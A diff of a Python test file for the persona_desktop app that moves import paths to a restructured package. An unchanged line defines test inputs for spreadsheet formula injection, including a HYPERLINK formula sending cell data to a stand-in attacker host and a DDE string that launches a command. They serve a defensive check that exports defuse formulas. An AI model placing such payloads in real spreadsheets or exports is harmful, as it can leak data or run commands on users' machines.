@@ -23,12 +23,14 @@ from conftest import ROOT
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from persona_desktop.core import safe_write, xlsx
+from persona_desktop.core.io import safe_write
+
+from persona_desktop.core.export import xlsx
 from persona_desktop.core.errors import DataError
-from persona_desktop.core.export import save_figure, write_csv
+from persona_desktop.core.export.files import save_figure, write_csv
 from persona_desktop.core.progress import Cancelled, Progress
-from persona_desktop.core.safe_write import FORMULA_STARTS, defuse_formula
-from persona_desktop.core.xlsx import MAX_SHEET_ROWS, sheet_title, write_workbook
+from persona_desktop.core.io.safe_write import FORMULA_STARTS, defuse_formula
+from persona_desktop.core.export.xlsx import MAX_SHEET_ROWS, sheet_title, write_workbook
 
 SAMPLE = ROOT / "resources" / "sample" / "online_retail_sample.csv"
 HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Click me")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
@@ -293,9 +295,9 @@ def test_libreoffice_opens_the_workbook_and_prints_every_sheet(analyzed, tmp_pat
 
 def test_an_export_failing_at_its_last_part_changes_no_file(tmp_path, monkeypatch):
     """The workbook and the CSV are done when the report fails (a full disk): the folder is as before."""
-    from persona_desktop.core import report
-    from persona_desktop.core.analyze import run_analysis
-    from persona_desktop.core.bundle import ExportChoice, export_results
+    from persona_desktop.core.export import report
+    from persona_desktop.core.workflow import run_analysis
+    from persona_desktop.core.export.bundle import ExportChoice, export_results
     from persona_desktop.core.paths import sample_path
 
     analysis = run_analysis(sample_path(), lang="en")
